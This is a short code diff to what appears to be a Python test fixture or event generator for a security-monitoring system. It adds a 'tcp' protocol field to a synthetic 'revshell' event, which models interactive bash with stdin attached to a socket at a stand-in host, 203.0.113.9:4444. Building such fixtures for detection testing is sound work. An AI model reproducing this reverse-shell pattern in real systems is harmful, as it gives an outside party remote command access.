@@ -44,7 +44,8 @@ SECOND = 1_000_000_000
 
 def revshell(pod: Pod, ts: int) -> Envelope:
     shell = exec_(ts, 9000, 4300, "/bin/bash", ["bash", "-i"],
-                  stdio={"stdin": {"type": "socket", "peer": "203.0.113.9:4444"}})
+                  stdio={"stdin": {"type": "socket", "peer": "203.0.113.9:4444",
+                                   "protocol": "tcp"}})
     return dataclasses.replace(shell, pod=pod)
 
 
